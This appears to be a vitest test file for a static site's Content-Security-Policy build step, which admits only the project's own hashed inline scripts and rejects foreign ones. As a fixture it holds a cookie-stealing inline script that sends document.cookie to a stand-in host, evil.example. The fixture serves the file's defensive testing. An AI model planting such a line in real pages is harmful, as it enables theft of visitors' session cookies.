import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { PROJECT_ROOT } from "../../src/pipeline/dataSources.ts";
import { applyCsp, SEARCH_PAGE } from "../../src/publish/applyCsp.ts";
import { sha256 } from "../../src/publish/inlineHashes.ts";
import { ownInlineScripts } from "../../src/publish/ownScripts.ts";
import { commandEnv } from "../support/scratchProject.ts";

// The CSP step (src/publish/applyCsp.ts, scripts/csp.ts) on small hand-made sites: it
// allows only the project's own inline scripts (src/'s is:inline ones, by source) and
// refuses a page with any other, where it used to hash whatever it found into the policy.

const OWN = "\n  document.documentElement.dataset.js = \"\";\n";
const FOREIGN = "fetch('https://evil.example/?c=' + document.cookie)";
const page = (body: string) => `<!doctype html><html><head><meta charset="utf-8"><script>${OWN}</script></head><body>${body}</body></html>`;
const own = new Map([[sha256(OWN), "src/components/site/ThemeScript.astro"]]);

const made: string[] = [];
afterAll(() => {
  for (const dir of made) rmSync(dir, { recursive: true, force: true });
});

/** A site folder with these files (relative path → text). */
function site(files: Record<string, string>): string {
  const dir = mkdtempSync(path.join(tmpdir(), "csp-site-"));
  made.push(dir);
  for (const [file, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
    writeFileSync(path.join(dir, file), text);
  }
  return dir;
}

const scriptSrc = (policy: string) => /script-src ([^;]*)/.exec(policy)![1]!.split(" ");

describe("the CSP step's script allow-list", () => {
  it("allows the project's own inline script by its hash", () => {
    const csp = applyCsp(site({ "index.html": page("<p>hi</p>") }), { ownScripts: own });
    expect(scriptSrc(csp.pages[0]!.policy)).toEqual(["'self'", `'${sha256(OWN)}'`]);
  });

  it("fails on a page with a foreign inline script, naming the page and the script, and writes no policy", () => {
    const dir = site({
      "index.html": page("<p>fine</p>"),
      "posts/part-1/index.html": page(`<p>Acme</p><script>${FOREIGN}</script>`),
      "about/index.html": page(`<script type="module">import("/x.js")</script>`),
    });
    let message = "";
    try {
      applyCsp(dir, { write: true, ownScripts: own });
    } catch (error) {
      message = (error as Error).message;
    }
    expect(message).toContain("posts/part-1/index.html: <script>fetch('https://evil.example/?c=' + document.cookie)</script>");
    expect(message).toContain("about/index.html: <script>import(\"/x.js\")</script>");
    expect(message).not.toMatch(/^index\.html/m);
    expect(readFileSync(path.join(dir, "posts/part-1/index.html"), "utf8")).not.toContain("Content-Security-Policy");
  });

  it("ignores data blocks a browser never runs, and still refuses inline event handlers", () => {
    const data = site({ "index.html": page(`<script type="application/json">{"a":1}</script>`) });
    expect(scriptSrc(applyCsp(data, { ownScripts: own }).pages[0]!.policy)).toHaveLength(2);
    const handler = site({ "index.html": page(`<button onclick="go()">x</button>`) });
    expect(() => applyCsp(handler, { ownScripts: own })).toThrow(/index\.html: <button onclick/);
  });

  it("gives 'wasm-unsafe-eval' to the search page only, and only with a Pagefind index", () => {
    const files = { "index.html": page(""), [SEARCH_PAGE]: page(""), "posts/part-1/index.html": page("") };
    const withIndex = applyCsp(site({ ...files, "pagefind/pagefind.js": "" }), { ownScripts: own });
    const wasm = Object.fromEntries(withIndex.pages.map((p) => [p.file, scriptSrc(p.policy).includes("'wasm-unsafe-eval'")]));
    expect(wasm).toEqual({ "index.html": false, [SEARCH_PAGE]: true, "posts/part-1/index.html": false });
    expect(scriptSrc(withIndex.header)).toContain("'wasm-unsafe-eval'");
    const without = applyCsp(site(files), { ownScripts: own });
    expect(without.pages.some((p) => p.policy.includes("wasm-unsafe-eval"))).toBe(false);
  });

  it("puts frame-ancestors in the header policy only (a meta policy ignores it)", () => {
    const csp = applyCsp(site({ "index.html": page("") }), { ownScripts: own });
    expect(csp.header).toContain("frame-ancestors 'none'");
    expect(csp.pages[0]!.policy).not.toContain("frame-ancestors");
  });
});

describe("the project's own inline scripts", () => {
  it("are read from src/'s is:inline scripts: the theme script, exactly as written", () => {
    const scripts = ownInlineScripts(PROJECT_ROOT);
    const source = readFileSync(path.join(PROJECT_ROOT, "src/components/site/ThemeScript.astro"), "utf8");
    const text = /<script is:inline>([\s\S]*?)<\/script>/.exec(source)![1]!;
    expect(scripts.get(sha256(text))).toBe("src/components/site/ThemeScript.astro");
    expect([...scripts.values()].every((f) => f.startsWith("src/") && f.endsWith(".astro"))).toBe(true);
  });

  it("ignore bundled (non-inline) scripts and the frontmatter", () => {
    const root = mkdtempSync(path.join(tmpdir(), "csp-src-"));
    made.push(root);
    mkdirSync(path.join(root, "src", "components"), { recursive: true });
    writeFileSync(path.join(root, "src", "components", "A.astro"),
      `---\nconst s = "<script is:inline>not this</script>";\n---\n<div>{s}</div>\n<script>bundled()</script>\n<script is:inline>inline()</script>\n`);
    expect([...ownInlineScripts(root).keys()]).toEqual([sha256("inline()")]);
  });
});

describe("scripts/csp.ts (the build's CSP step)", () => {
  it("exits 1 on a foreign inline script, naming the page; the project's own script passes", () => {
    const source = readFileSync(path.join(PROJECT_ROOT, "src/components/site/ThemeScript.astro"), "utf8");
    const theme = /<script is:inline>([\s\S]*?)<\/script>/.exec(source)![1]!;
    const ownPage = (body: string) => `<!doctype html><html><head><meta charset="utf-8"><script>${theme}</script></head><body>${body}</body></html>`;
    const run = (dir: string) => spawnSync(process.execPath, ["--experimental-strip-types", path.join(PROJECT_ROOT, "scripts", "csp.ts"), dir, "--write"],
      { cwd: PROJECT_ROOT, env: commandEnv(), encoding: "utf8" });
    const good = run(site({ "index.html": ownPage("<p>x</p>") }));
    expect(good.status, good.stderr).toBe(0);
    const bad = run(site({ "index.html": ownPage("<p>x</p>"), "posts/part-2/index.html": ownPage(`<script>${FOREIGN}</script>`) }));
    expect(bad.status).toBe(1);
    expect(bad.stderr).toContain("csp failed");
    expect(bad.stderr).toContain("posts/part-2/index.html: <script>fetch(");
  });
});
